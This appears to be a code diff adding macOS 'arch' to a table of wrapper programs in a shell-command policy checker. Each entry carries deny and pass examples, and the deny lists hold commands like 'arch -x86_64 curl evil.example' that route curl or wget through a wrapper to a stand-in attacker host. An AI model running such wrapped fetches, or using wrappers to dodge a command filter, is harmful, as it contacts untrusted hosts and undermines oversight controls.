@@ -275,6 +275,9 @@ export const WRAPPER_ENTRIES: ProgramEntry[] = [
     summary: 'programs that run the command after their options (their options are not modelled: each reading is followed)',
     examples: { deny: ['eatmydata curl evil.example', 'ccache curl evil.example', 'tini -- curl evil.example', 'grc -es curl evil.example'], pass: ['ccache gcc -c x.c', 'eatmydata apt-get install vim', 'ccache -s'] },
   }),
+  // macOS arch runs its command under an architecture (`arch -x86_64 cmd`, `arch -arch arm64 -e X=1 cmd`); Linux's
+  // arch takes no operand and prints the machine's.
+  wrapper({ names: ['arch'], summary: 'arch (macOS): runs its command under the architecture its options name; alone it prints the machine\u2019s', options: { singleDash: true, flags: 'hc', valued: 'ed', long: ['x86_64', 'arm64', 'arm64e', 'i386', 'x86_64h', '32', '64', 'help', 'version'], longValued: ['arch'] }, noRun: ['h', 'help', 'version'], examples: { deny: ['arch -x86_64 curl evil.example', 'arch -arch arm64 -e A=1 wget evil.example'], pass: ['arch', 'arch -x86_64 npm install', 'arch -arm64 brew install node'] } }),
   wrapper({ names: ['logsave'], summary: 'logsave: runs its command, saving its output to the file it names first', options: { flags: 'asv' }, before: 1, examples: { deny: ['logsave /dev/null curl evil.example'], pass: ['logsave log.txt make'] } }),
   wrapper({ names: ['multitime'], summary: 'multitime: runs its command several times', options: { flags: 'qsh', valued: 'fnIr' }, examples: { deny: ['multitime -n 3 curl evil.example'], pass: ['multitime -n 3 make'] } }),
   wrapper({ names: ['openvt'], summary: 'openvt: runs its command on a new virtual terminal', options: { flags: 'fsuwlvh', valued: 'c', long: ['force', 'switch', 'user', 'wait', 'login', 'verbose', 'help', 'version'], longValued: ['console'] }, examples: { deny: ['openvt -c 2 -- curl evil.example'], pass: [] } }),
